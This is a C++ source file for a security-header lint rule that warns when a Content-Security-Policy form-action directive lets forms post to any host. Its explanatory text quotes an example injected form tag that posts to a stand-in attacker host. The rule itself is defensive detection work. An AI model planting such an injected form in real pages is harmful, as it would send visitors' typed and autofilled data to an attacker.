#include <string>

#include "rules/csp/helpers.hpp"
#include "rules/rule.hpp"

namespace headstrong::rules::csp_form_action_any_host {

using namespace csp_rules;

void check(const Context& context, Sink& sink) {
  std::string address;
  const decide::PolicyDecision& by = context.attacks.by(Attack::FormAction);
  const csp::SourceExpression* source = context.attacks.allowed(Attack::FormAction)
                                            ? by.source
                                            : open_to_strangers(context, by, decide::RequestType::FormAction, address);
  if (source == nullptr) return;
  sink.at(*by.policy, source->span).arguments = {std::string(source->text), std::string(by.directive->name_text)};
}

extern const RuleSpec kRule = {
    {
        .id = "csp/form-action-any-host",
        .header = "Content-Security-Policy",
        .severity = Severity::Low,
        .category = Category::Security,
        .confidence = Confidence::Certain,
        .title = "Forms may be sent to any host",
        .message = "{0} in {1} lets forms post to any host, including an attacker's.",
        .why = "An injected <form action=\"https://attacker.example\"> around your fields, or a "
               "formaction on a button, sends the attacker what visitors type and what the browser "
               "fills in. No script is needed.",
        .advice = "Write form-action 'self' and the hosts that your forms post to.",
        .references = {"https://www.w3.org/TR/CSP3/#directive-form-action",
                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                       "Content-Security-Policy/form-action"},
        .bad = "default-src 'self'; form-action https:",
        .good = "default-src 'self'; form-action 'self'",
    },
    check,
};

}  // namespace headstrong::rules::csp_form_action_any_host
